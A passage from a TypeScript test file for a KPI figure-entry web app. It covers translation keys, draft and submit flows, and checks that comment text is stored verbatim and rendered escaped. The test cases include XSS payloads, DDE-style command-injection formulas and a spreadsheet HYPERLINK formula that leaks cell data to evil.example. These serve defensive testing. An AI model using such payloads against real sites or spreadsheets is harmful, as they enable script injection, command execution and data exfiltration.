      "problem.required-to-submit",
      "problem.awaiting-review",
      "problem.already-approved",
      "entry.locked",
      "entry.conflict",
      "entry.tooLarge",
      "entry.line",
      "review.error.comment-required",
      "review.error.not-submitted",
      "review.error.locked",
      "review.error.not-found",
    ];
    for (const id of ids) {
      expect(Object.keys(en), id).toContain(id);
      expect(Object.keys(ar), id).toContain(id);
    }
  });
});

describe("after a refused submit, the same figures are accepted where they should be", () => {
  it("a draft save of the value that needed a justification is accepted", async () => {
    const url = PAGE;
    const outcome = await post(formRequest(url, save(kpi("OPEN_DATASETS", { value: "30", version: versionOf("OPEN_DATASETS") })), sessionCookie("focalRta")), url);
    expect(outcome.status).toBe(302);
    expect(outcome.location).toBe(`${PAGE}?saved=1`);
    expect(figureAt("OPEN_DATASETS")).toMatchObject({ value: 30, status: "draft", version: 1, comment: null });
  });

  it("and submitting it with a comment that explains the jump is accepted", async () => {
    const url = PAGE;
    const form = submit(kpi("OPEN_DATASETS", { value: "30", comment: "ten new datasets from the parking system", version: versionOf("OPEN_DATASETS") }));
    const outcome = await post(formRequest(url, form, sessionCookie("focalRta")), url);
    expect(outcome.status).toBe(302);
    // 2021-01's figures were due on 10 February 2021: submitted now, they are late.
    expect(outcome.location).toBe(`${PAGE}?submitted=1&late=1`);
    expect(figureAt("OPEN_DATASETS")).toMatchObject({ value: 30, status: "submitted", version: 2, comment: "ten new datasets from the parking system" });
  });
});

// ---------------------------------------------------------------------------------------------
// Text that looks like markup or a spreadsheet formula is a comment like any other: stored as
// typed, and shown as text.

const TEXT_CASES: Array<[string, string, string]> = [
  ["HTML", "SERVICE_REQUEST_DAYS", `<b>bold</b> & <i>"quoted"</i> <img src=x onerror="alert(1)">`],
  ["a <script> element", "SERVICE_REQUEST_DAYS", `<script>alert("stored")</script>`],
  ["a spreadsheet formula", "SERVICE_REQUEST_DAYS", `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`],
  ["a DDE-style formula", "SERVICE_REQUEST_DAYS", `+cmd|' /C calc'!A0`],
  ["an @ formula", "SERVICE_REQUEST_DAYS", `@SUM(1+1)*cmd|' /C calc'!A0`],
  ["exactly 2000 characters", "SERVICE_REQUEST_DAYS", "z".repeat(2000)],
];

describe("comments that look like code", () => {
  it.each(TEXT_CASES)("a comment with %s is accepted through the form and stored verbatim", async (_what, code, comment) => {
    const url = PAGE;
    const outcome = await post(formRequest(url, save(kpi(code, { value: "4", comment, version: versionOf(code) })), sessionCookie("focalRta")), url);
    expect(outcome.status).toBe(302);
    expect(figureAt(code)!.comment).toBe(comment);
    const history = db().select().from(s.figureHistory).where(eq(s.figureHistory.figureId, figureAt(code)!.id)).all();
    expect(history.at(-1)!.comment).toBe(comment);
  });

  it.each(TEXT_CASES)("a comment with %s is accepted through a CSV upload and stored verbatim", async (_what, _code, comment) => {
    const url = PAGE;
    const quoted = `"${comment.replace(/"/g, '""')}"`;
    const file = csv(`RTA,GIN_CONNECTED,${PERIOD},1,,,${quoted}`);
    // A 2000-character comment does not fit in this file's 2 KB limit: raised for it alone.
    if (file.bytes.byteLength > UPLOAD_LIMIT) withLimit(1_048_576)();
    let outcome: Outcome;
    try {
      outcome = await post(uploadRequest(url, file, sessionCookie("focalRta")), url);
    } finally {
      restoreLimit();
    }
    expect(outcome.status).toBe(302);
    expect(outcome.location).toBe(`${PAGE}?uploaded=1`);
    expect(figureAt("GIN_CONNECTED")!.comment).toBe(comment);
  });

  it("the entry page shows a stored <script> comment as text, never as markup", async () => {
    const script = `<script>alert("stored")</script>`;
    const saved = await post(
      formRequest(PAGE, save(kpi("SERVICE_REQUEST_DAYS", { value: "4", comment: script, version: versionOf("SERVICE_REQUEST_DAYS") })), sessionCookie("focalRta")),
      PAGE,
    );
    expect(saved.status).toBe(302);
    const loaded = await settle(() =>
      figuresLoader({
        request: new Request(`http://localhost${PAGE}`, { headers: { Cookie: sessionCookie("focalRta")! } }),
        params: paramsOf(PAGE),
        context: {},
      }),
    );
    expect(loaded.status).toBe(200);
    const Stub = createRemixStub([{ id: "entry", path: PAGE, Component: EntryPage, loader: () => loaded.body as object }]);
    // Rendered as the server renders it. React warns that the router's layout effects do not run
    // on the server: that one warning is expected here; any other console.error still fails.
    const consoleError = vi.mocked(console.error);
    const strict = consoleError.getMockImplementation();
    consoleError.mockImplementation((...args: unknown[]) => {
      if (!String(args[0]).includes("useLayoutEffect does nothing on the server")) strict?.(...args);
    });
    let html: string;
    try {
      html = renderToString(
        createElement(WithIntl, { locale: "en", children: createElement(Stub, { initialEntries: [PAGE], hydrationData: { loaderData: { entry: loaded.body } } }) }),
      );
    } finally {
      if (strict) consoleError.mockImplementation(strict);
    }
    // The page did render the form with the comment in it…
    expect(html).toContain('name="comment.SERVICE_REQUEST_DAYS"');
    expect(html).toContain("&lt;script&gt;alert(&quot;stored&quot;)&lt;/script&gt;");
    // …and no script element came out of it.
    expect(html).not.toContain("<script>alert");
    expect(html).not.toMatch(/<script[\s>]/i);
  });
});
